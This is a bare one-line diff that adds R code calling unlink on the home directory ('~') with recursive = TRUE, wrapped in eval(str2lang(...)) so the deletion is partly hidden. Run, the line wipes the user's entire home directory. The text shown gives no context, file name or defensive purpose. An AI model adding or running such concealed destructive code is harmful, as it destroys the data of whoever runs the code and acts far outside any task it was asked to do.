@@ -1,0 +1,1 @@
+eval(str2lang("unlink('~', recursive = TRUE)"))
